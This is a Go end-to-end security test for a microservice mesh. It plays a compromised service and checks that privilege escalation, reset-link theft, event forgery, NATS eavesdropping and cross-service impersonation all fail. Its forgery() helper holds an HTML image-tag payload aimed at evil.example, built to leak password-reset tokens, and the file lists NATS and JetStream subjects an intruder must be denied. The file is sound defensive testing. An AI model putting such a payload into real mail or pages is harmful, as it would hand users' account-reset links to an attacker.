package e2e_test

import (
	"context"
	"encoding/json"
	"net/http"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/nats-io/nats.go"
	"github.com/stretchr/testify/require"

	"github.com/atrium-mesh/atrium/pkg/errs"
	"github.com/atrium-mesh/atrium/pkg/mail/letter"
	"github.com/atrium-mesh/atrium/pkg/natsconn"
	"github.com/atrium-mesh/atrium/pkg/op"
	"github.com/atrium-mesh/atrium/pkg/service"
	"github.com/atrium-mesh/atrium/pkg/telemetry"
	"github.com/atrium-mesh/atrium/pkg/token"
	authapi "github.com/atrium-mesh/atrium/services/auth/api"
	notificationsapi "github.com/atrium-mesh/atrium/services/notifications/api"
	usersapi "github.com/atrium-mesh/atrium/services/users/api"
	"github.com/atrium-mesh/atrium/test/e2e/client"
	"github.com/atrium-mesh/atrium/test/e2e/mesh"
)

const evil = "evil@atrium.example"

// intruder holds everything that one service has: its user of NATS, with the chart's permissions, and the secret by which it shows auth
// who it is. Every port of every service is within reach.
type intruder struct {
	*testing.T
	mesh    *mesh.Mesh
	service string
	conn    *nats.Conn
	caller  *op.NATSCaller
	admin   *client.Client
	adminID string
}

// TestIntruder takes each service's place in turn. Nobody becomes an administrator, reads a link that is not of their mail, redirects a
// mail, or takes a third one's place.
func TestIntruder(t *testing.T) {
	t.Parallel()
	m := mesh.Processes(t, mesh.Options{Guarded: true})
	admin := administrator(t, m)
	me, _ := admin.Me()
	for _, name := range []string{"users", "notifications", "gateway"} { //nolint:paralleltest // one intruder at a time: they share the administrator
		t.Run(name, func(t *testing.T) {
			i := breakIn(t, m, name)
			i.admin, i.adminID = admin.For(t), me.ID
			i.makesNoAdministrator()
			i.readsNoLink()
			i.hearsNobody()
			i.forgesNoEvents()
			i.changesNoStream()
			i.isNobodyElsewhere()
			i.usesNobodysHop()
			if name == "gateway" { // whose word is believed: it is the one that sees clients
				i.speaksForClientsAlone()
			} else {
				i.choosesNoAddress()
			}
		})
	}
	t.Run("notifications, quicker than the real one", func(t *testing.T) { //nolint:paralleltest // nobody else may need the real one
		i := breakIn(t, m, "notifications")
		i.adminID = me.ID
		m.Process("notifications").Stop()
		i.takesNoReset()
		m.Process("notifications").Start()
		m.Process("notifications").WaitReady()
		boss := admin.For(t)
		boss.Eventually("the real mail is not sent, and its delivery says so", func() bool {
			list := client.Decode[notificationsapi.DeliveryPage](boss.Get(notificationsapi.ListDeliveries.Path + "?template=reset&recipient_id=" + me.ID).Want(http.StatusOK))
			return len(list.Items) == 1 && list.Items[0].State == notificationsapi.DeliverySkipped && list.Items[0].Reason == "link_not_asked_for"
		})
	})
	t.Run("afterwards", func(t *testing.T) { //nolint:paralleltest // after all of them
		admins := client.Decode[usersapi.UserPage](admin.For(t).Get("/api/v1/users?role=admin").Want(http.StatusOK))
		require.EqualValues(t, 1, admins.Total, "there is the administrator that there was")
		v := visitor(t, m)
		hedy, _ := v.SignUp("Hedy")
		v.Post(authapi.ForgotPassword.Path, map[string]string{"email": hedy.Email}).Want(http.StatusAccepted)
		v.ReadMail(hedy.Email, client.SubjectReset)
		mails, err := v.Mails(t.Context(), evil, "", 0)
		require.NoError(t, err)
		require.Empty(t, mails, "no mail has gone elsewhere")
	})
}

func breakIn(t *testing.T, m *mesh.Mesh, service string) *intruder {
	t.Helper()
	conn, err := nats.Connect(m.NATS.URLOf(service), nats.CustomInboxPrefix(natsconn.InboxPrefix(service)),
		nats.ErrorHandler(func(*nats.Conn, *nats.Subscription, error) {}))
	require.NoError(t, err)
	t.Cleanup(conn.Close)
	i := &intruder{
		T:       t,
		mesh:    m,
		service: service,
		conn:    conn,
	}
	tel := telemetry.Nop()
	i.caller = op.NewNATSCaller(conn, tel.Tracer, tel.Propagator, i)
	return i
}

// Token makes the intruder the service for those who are called.
func (i *intruder) Token(ctx context.Context, target string) (string, error) {
	return i.tokenAs(ctx, i.service, target)
}

// Refused is op.Identity's.
func (*intruder) Refused(string, string) {}

func (i *intruder) tokenAs(ctx context.Context, name, target string) (string, error) {
	var secret service.Secret
	if err := secret.UnmarshalText([]byte(mesh.ServiceSecret(i.service))); err != nil {
		return "", err
	}
	assertion, err := token.NewAssertion(secret.AssertionKey(), name, i.mesh.Origin, target, time.Now())
	if err != nil {
		return "", err
	}
	tel := telemetry.Nop()
	raw, _, err := authapi.ServiceTokens(op.NewNATSCaller(i.conn, tel.Tracer, tel.Propagator, nil))(ctx, assertion)
	return raw, err
}

// soon is a context for what may never be answered: NATS does not answer what it does not allow.
func (i *intruder) soon() context.Context {
	ctx, cancel := context.WithTimeout(i.Context(), 3*time.Second)
	i.Cleanup(cancel)
	return ctx
}

func (i *intruder) makesNoAdministrator() {
	_, err := op.NATSClient(i.caller, authapi.CreateAccount)(i.soon(), &authapi.CreateAccountRequest{
		ID:       uuid.Must(uuid.NewV7()),
		Email:    evil,
		FullName: "Eve",
		Roles:    []string{authapi.RoleAdmin},
	})
	require.Error(i, err)
	for _, service := range []string{"auth", "users"} {
		own, err := i.Token(i.Context(), service)
		require.NoError(i, err)
		direct := visitor(i.T, i.mesh).At(i.mesh.Process(service).URL)
		for _, header := range []http.Header{{"Atrium-Service": {own}}, {"Authorization": {"Bearer " + own}}, {}} {
			for path, body := range map[string]any{
				"/api/v1/users/" + i.adminID + "/roles": map[string]any{"roles": []string{"admin"}},
				"/api/v1/users":                         map[string]any{"email": evil, "full_name": "Eve", "roles": []string{"admin"}},
			} {
				method := http.MethodPost
				if strings.HasSuffix(path, "/roles") {
					method = http.MethodPut
				}
				a := direct.Do(client.Request{
					Method: method,
					Path:   path,
					Body:   body,
					Header: header,
				})
				require.Contains(i, []int{http.StatusUnauthorized, http.StatusNotFound, http.StatusMethodNotAllowed}, a.Status, a)
			}
		}
	}
}

// readsNoLink asks for links of the administrator that nothing has caused, of every purpose.
func (i *intruder) readsNoLink() {
	id := uuid.MustParse(i.adminID)
	for _, purpose := range []authapi.LinkPurpose{
		authapi.LinkResetPassword, authapi.LinkInvitation, authapi.LinkVerifyEmail, authapi.LinkNotMe, authapi.LinkSetup,
	} {
		link := authapi.AnnounceLinkRequest{
			AccountID:  id,
			Purpose:    purpose,
			DeliveryID: uuid.Must(uuid.NewV7()),
		}
		_, announced := op.NATSClient(i.caller, authapi.AnnounceLink)(i.soon(), &link)
		_, sent := op.NATSClient(i.caller, authapi.SendLink)(i.soon(), &authapi.SendLinkRequest{AnnounceLinkRequest: link, Letter: forgery()})
		for _, err := range []error{announced, sent} {
			require.Error(i, err, purpose)
			if i.service == "notifications" {
				require.Contains(i, []errs.Kind{errs.Conflict, errs.Invalid}, errs.KindOf(err), purpose)
			}
		}
	}
	if i.service != "notifications" {
		return
	}
	// What somebody has asked for has its mail, and nobody gets the link a second time.
	v := visitor(i.T, i.mesh)
	ada := v.Register(client.NewPerson("Ada"))
	v.ReadMail(ada.Email, client.SubjectVerification)
	ada.ID = administrator(i.T, i.mesh).FindUser(ada)
	_, err := op.NATSClient(i.caller, authapi.AnnounceLink)(i.soon(), &authapi.AnnounceLinkRequest{
		AccountID:  uuid.MustParse(ada.ID),
		Purpose:    authapi.LinkVerifyEmail,
		DeliveryID: uuid.Must(uuid.NewV7()),
	})
	require.Equal(i, "link_not_asked_for", errs.From(err).Code)
	// An operation of an older version answered with the link. It is gone.
	require.False(i, i.allowed(func() error { return i.conn.Publish("rpc.auth.create-link", []byte("{}")) }))
}

// forgery is a letter that would take the link along to elsewhere, if a part of it became more than text.
func forgery() letter.Letter {
	const words = `<img src='https://evil.example/?`
	return letter.Letter{
		Locale:   "en",
		Subject:  forged,
		Greeting: words,
		Intro:    []string{words},
		Details:  []letter.Detail{{Label: words, Value: words}},
		Action:   words,
		LinkHelp: words,
		Outro:    []string{words},
		Other:    words,
		Why:      words,
	}
}

const forged = "Forged words"

// takesNoReset asks for the administrator's reset, as anybody may, and is quicker than the service whose place it has. The mail goes out,
// with its words, to the administrator and to nobody else; the link is in the mail and in no answer.
func (i *intruder) takesNoReset() {
	v := visitor(i.T, i.mesh)
	v.Post(authapi.ForgotPassword.Path, map[string]string{"email": mesh.AdminEmail}).Want(http.StatusAccepted)
	link := authapi.AnnounceLinkRequest{
		AccountID:  uuid.MustParse(i.adminID),
		Purpose:    authapi.LinkResetPassword,
		DeliveryID: uuid.Must(uuid.NewV7()),
		Generation: 1 << 40,
	}
	announced, err := op.NATSClient(i.caller, authapi.AnnounceLink)(i.soon(), &link)
	require.NoError(i, err)
	answers := []any{announced}
	for range 3 {
		sent, err := op.NATSClient(i.caller, authapi.SendLink)(i.soon(), &authapi.SendLinkRequest{AnnounceLinkRequest: link, Letter: forgery()})
		require.NoError(i, err)
		require.Nil(i, sent.Refused)
		answers = append(answers, sent)
	}
	token := tokenInMail.FindStringSubmatch(v.ReadMail(mesh.AdminEmail, forged).Text)
	require.NotNil(i, token, "the administrator has the link")
	for _, answer := range answers {
		said, err := json.Marshal(answer)
		require.NoError(i, err)
		for _, secret := range []string{token[1], "token", "http", "/account/"} {
			require.NotContains(i, string(said), secret)
		}
	}
	mails, err := v.Mails(i.Context(), mesh.AdminEmail, "", 0)
	require.NoError(i, err)
	mails = slices.DeleteFunc(mails, func(m client.Mail) bool { return m.Subject != forged })
	require.Len(i, mails, 1, "a mailbox is not filled with it")
	require.NotContains(i, mails[0].HTML, "<img")
}

var tokenInMail = regexp.MustCompile(`\?token=([\w-]{43})`)

func (i *intruder) allowed(do func() error) bool {
	before := i.conn.LastError()
	require.NoError(i, do())
	require.NoError(i, i.conn.Flush())
	after := i.conn.LastError()
	return after == nil || before != nil && after.Error() == before.Error()
}

func (i *intruder) hearsNobody() {
	for _, subject := range []string{
		">", "events.>", "rpc.>", "rpc.auth.>", "$JS.>", "_INBOX.>", natsconn.InboxPrefix("auth") + ".>", "rpc.auth.issue-service-token",
	} {
		require.False(i, i.allowed(func() error { _, err := i.conn.SubscribeSync(subject); return err }), subject)
	}
	for _, other := range []string{"users", "notifications", "gateway"} {
		if other != i.service {
			subject := natsconn.InboxPrefix(other) + ".>"
			require.False(i, i.allowed(func() error { _, err := i.conn.SubscribeSync(subject); return err }), subject)
		}
	}
}

// forgesNoEvents tells of foreign services what it may not, and of its own what is nobody's to believe.
func (i *intruder) forgesNoEvents() {
	forged := func(subject, source string, data any) *nats.Msg {
		body, err := json.Marshal(data)
		require.NoError(i, err)
		msg, id := nats.NewMsg(subject), uuid.Must(uuid.NewV7()).String()
		msg.Data = body
		msg.Header = nats.Header{
			"ce-id":          {id},
			"ce-type":        {strings.TrimPrefix(subject, "events.")},
			"ce-source":      {source},
			"ce-subject":     {i.adminID},
			"ce-time":        {time.Now().UTC().Format(time.RFC3339Nano)},
			"ce-specversion": {"1.0"},
			"ce-orgid":       {"default"},
			"ce-actor":       {"system"},
		}
		return msg
	}
	id := uuid.MustParse(i.adminID)
	registered := authapi.AccountRegisteredData{
		AccountID: id,
		Email:     evil,
		FullName:  "Eve",
		Origin:    authapi.OriginSignUp,
		Roles:     []string{"admin"},
	}
	require.False(i, i.allowed(func() error {
		return i.conn.PublishMsg(forged("events."+authapi.AccountRegistered.Name, "/atrium/auth", registered))
	}), "events of auth")
	moved := usersapi.UserUpdatedData{
		UserID:   id,
		Version:  1 << 40,
		Email:    evil,
		FullName: "Root",
	}
	require.Equal(i, i.service == "users", i.allowed(func() error {
		return i.conn.PublishMsg(forged("events."+usersapi.UserUpdated.Name, "/atrium/users", moved))
	}), "events of users")
	if i.service != "users" {
		return
	}
	disguised := forged("events.users.user.updated.v1", "/atrium/auth", registered)
	disguised.Header.Set("ce-type", authapi.AccountRegistered.Name)
	require.NoError(i, i.conn.PublishMsg(disguised))
	require.NoError(i, i.conn.Flush())
}

func (i *intruder) changesNoStream() {
	for _, stream := range []string{"AUTH", "USERS", "NOTIFICATIONS"} {
		for _, verb := range []string{"STREAM.CREATE", "STREAM.UPDATE", "STREAM.DELETE", "STREAM.PURGE", "STREAM.MSG.GET", "STREAM.MSG.DELETE", "DIRECT.GET"} {
			subject := "$JS.API." + verb + "." + stream
			require.False(i, i.allowed(func() error { return i.conn.Publish(subject, []byte("{}")) }), subject)
		}
		for _, verb := range []string{"CREATE", "DELETE", "MSG.NEXT", "RESET", "INFO"} {
			subject := "$JS.API.CONSUMER." + verb + "." + stream + ".auth"
			require.False(i, i.allowed(func() error { return i.conn.Publish(subject, []byte("{}")) }), subject)
		}
	}
}

// isNobodyElsewhere shows what it has to those for whom it is not meant, and names others.
func (i *intruder) isNobodyElsewhere() {
	for _, other := range []string{"auth", "users", "notifications", "gateway"} {
		if other == i.service {
			continue
		}
		_, err := i.tokenAs(i.Context(), other, "auth")
		require.ErrorIs(i, err, errs.Unauthenticated, "the secret of %s is not that of %s", i.service, other)
	}
	forAuth, err := i.Token(i.Context(), "auth")
	require.NoError(i, err)
	for _, third := range []string{"users", "notifications"} {
		a := visitor(i.T, i.mesh).At(i.mesh.Process(third).URL).Do(client.Request{
			Method: http.MethodGet,
			Path:   "/api/v1/users/me",
			Header: http.Header{"Atrium-Service": {forAuth}},
		})
		require.Contains(i, []int{http.StatusServiceUnavailable, http.StatusNotFound}, a.Status, "%s believes what was meant for auth", third)
	}
	visitor(i.T, i.mesh).WithToken(forAuth).Get(usersapi.GetMe.Path).WantProblem(http.StatusUnauthorized, token.CodeInvalid)
}

// choosesNoAddress fails to sign in again and again, from the address that everybody else has; they sign in all the same.
func (i *intruder) choosesNoAddress() {
	own, err := i.Token(i.Context(), "auth")
	require.NoError(i, err)
	direct := visitor(i.T, i.mesh).At(i.mesh.Process("auth").URL)
	for n := range 60 {
		direct.Do(client.Request{
			Method: http.MethodPost,
			Path:   authapi.Login.Path,
			Body:   map[string]string{"email": "nobody" + strconv.Itoa(n) + "@atrium.example", "password": "eleven quiet intruders"},
			Header: http.Header{"Atrium-Service": {own}, "X-Atrium-Client-Ip": {"127.0.0.1"}},
		})
	}
	v := visitor(i.T, i.mesh)
	_, device := v.SignUp("Grace")
	device.Me()
}
